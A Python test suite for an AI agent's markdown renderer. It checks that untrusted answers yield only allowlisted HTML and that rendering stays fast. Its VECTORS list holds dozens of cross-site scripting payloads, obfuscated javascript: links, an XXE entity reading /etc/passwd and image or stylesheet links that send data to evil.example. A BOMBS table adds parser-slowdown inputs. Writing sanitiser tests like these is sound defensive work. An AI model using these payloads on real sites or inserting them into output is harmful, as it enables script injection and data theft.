"""An answer is written by a stranger: whatever it says, only harmless elements reach the page, and soon."""

import time
from itertools import chain

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.markdown.blocks import Blocks
from agent.markdown.code import CLASSES
from agent.markdown.render import render
from agent.markdown.wall import safe
from tests.markdown.reading import Page, committed, every, stream

_LENGTH = 30_000

TEXT = {
    *(
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "div",
        "em",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "li",
        "ol",
        "p",
        "pre",
        "s",
        "span",
    ),
    *("strong", "table", "tbody", "td", "th", "thead", "tr", "ul"),
}
ATTRIBUTES = {"class", "data-language", "dir", "href", "rel", "start", "tabindex", "target"}
HARMLESS_IN_FORMULAS = {
    *(
        "accent",
        "accentunder",
        "align",
        "columnalign",
        "columnlines",
        "columnspacing",
        "depth",
        "display",
        "displaystyle",
    ),
    *(
        "fence",
        "form",
        "frame",
        "height",
        "largeop",
        "linethickness",
        "lspace",
        "mathbackground",
        "mathcolor",
        "mathsize",
    ),
    *("mathvariant", "maxsize", "minsize", "movablelimits", "notation", "rowlines", "rowspacing", "rspace"),
    *("scriptlevel", "separator", "stretchy", "symmetric", "tabindex", "voffset", "width"),
}
WORDS = {"code", "math", "table", "tail", "task", "right", "center", *CLASSES.values()}

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<annotation-xml encoding='text/html'><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<div style='background:url(//evil.example)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](  javascript:alert(1) )",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "[x](/settings/users?delete=1)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](http:evil.example)",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example 'a\" onmouseover=\"alert(1)')",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<https://a.example/"onclick=alert(1)>',
    'https://a.example/"onclick=alert(1)//',
    "https://a.example/<script>alert(1)</script>",
    "![x](https://evil.example/leak.png?secret)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](javascript:alert(1))",
    '!["><img src=x onerror=alert(1)>](https://a.example)',
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "```<script>alert(1)</script>\nx\n```",
    '```"onload="alert(1)\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "$<script>alert(1)</script>$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{background:url(//evil.example)}{x}$ $\class{card}{x}$",
    r"$\color{red;background:url(//evil.example)}{x}$",
    r"$\unicode{x3C}script\unicode{x3E}$ $&lt;script&gt;$",
    r"$\hspace{1px' onmouseover='alert(1)}$",
    "$$\n</math><script>alert(1)</script>\n$$",
    r"\(\text{</mtext></math><script>alert(1)</script>}\)",
    "$\\frac{<script>}{$",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- [ ] <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    '<span class="tail"></span><span class="card">x</span>',
    "<p dir=rtl class='notice bad' hx-get=/settings data-open>x</p>",
    "\ud800<script>alert(1)</script>\udfff",
    "\0<scr\0ipt>alert(1)</scr\0ipt>",
]


def assert_harmless(html: str) -> None:
    page = Page(html)
    assert not page.others
    for tag, attrs in page.elements:
        formula = tag == "math" or (tag.startswith("m") and tag not in {"main", "map", "mark", "menu", "meta", "meter"})
        assert formula or tag in TEXT, tag
        assert set(attrs) <= (HARMLESS_IN_FORMULAS if formula else ATTRIBUTES), (tag, attrs)
        assert set((attrs.get("class") or "").split()) <= WORDS, attrs
        assert (attrs.get("href") or "https://").startswith(("http://", "https://", "mailto:")), attrs
        assert (tag == "a") == ("target" in attrs)


@pytest.mark.parametrize("vector", VECTORS, ids=range(len(VECTORS)))
def test_nothing_dangerous_reaches_the_page(vector: str) -> None:
    for text in (vector, f"a **{vector}** b", f"- {vector}\n- b", f"| a |\n|---|\n| {vector} |", f"$x$ {vector} $y$"):
        assert_harmless(render(text))
        changes = stream(text, *every(3, text))
        assert_harmless(committed(changes))
        assert_harmless("".join(getattr(change, "html", "") for change in changes))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([*chain.from_iterable(vector.split(" ") for vector in VECTORS), "\n", " ", "$", "`"])))
def test_no_mixture_of_them_does_either(parts: list[str]) -> None:
    assert_harmless(render("".join(parts)))


def test_what_is_shown_while_it_grows_is_harmless_too() -> None:
    for vector in VECTORS:
        blocks = Blocks()
        for part in ("a ", vector, vector):
            blocks.push(part)
            assert_harmless(blocks.open)


def test_the_wall_stands_by_itself() -> None:
    for vector in VECTORS:
        assert_harmless(safe(vector.encode(errors="replace").decode()))


def filled(part: str) -> str:
    return (part * (_LENGTH // len(part) + 1))[:_LENGTH]


BOMBS = {
    "quotes": filled(">"),
    "nested items": filled("- "),
    "brackets": filled("["),
    "images": filled("!["),
    "links": filled("[a]("),
    "nested links": filled("[")[: _LENGTH // 2] + filled("](http://a)")[: _LENGTH // 2],
    "marks": filled("*a_"),
    "more marks": filled("*a **b"),
    "one star": filled("a*"),
    "backticks": "".join("`" * length + "a" for length in range(1, 345)),
    "angles": filled("<"),
    "addresses": filled("<http://a"),
    "bare addresses": "http://a" + filled(")"),
    "entities": filled("&#1234567;"),
    "dollars": filled("$a "),
    "formulas": filled("$x$ "),
    "opened formulas": filled(r"\("),
    "opened blocks": filled("\\[ a\n"),
    "a wide table": "|" * 2000 + "a\n" + filled("|-")[:4000] + "\n" + filled("|\n"),
    "a long table": "|a|b|\n|-|-|\n" + filled("|a|b|\n"),
    "lazy rows": "|a|b|c|d\n|-|-|-|-\n" + filled("|\n"),
    "short lines": filled("a\n"),
    "items": filled("- a\n"),
    "headings": filled("# a\n"),
    "deep lists": "".join("  " * (line % 20) + "- a\n" for line in range(2500)),
    "spaces": filled(" "),
    "a formula": "$$" + filled(r"\frac{a}{b} ")[:3900] + "$$",
    "a deep formula": "$$" + filled("{")[:3900] + "$$",
    "strings": '```js\n"' + filled("\\")[:19_000] + "\n```",
    "names": "```csharp\n" + filled("a\n")[:19_000] + "```",
    "empty lines": "```c\n" + filled("\n")[:19_000] + "```",
}


@pytest.mark.parametrize("text", BOMBS.values(), ids=BOMBS)
def test_nothing_takes_long(text: str) -> None:
    begin = time.process_time()
    render(text)
    assert time.process_time() - begin < 3  # 0.25 s at most where this was written


@pytest.mark.parametrize("name", ["quotes", "spaces", "marks", "nested items", "short lines", "a long table"])
def test_nothing_takes_long_while_it_grows(name: str) -> None:
    text = BOMBS[name][: _LENGTH // 2]
    begin = time.process_time()
    stream(text, *every(40, text))
    assert time.process_time() - begin < 10
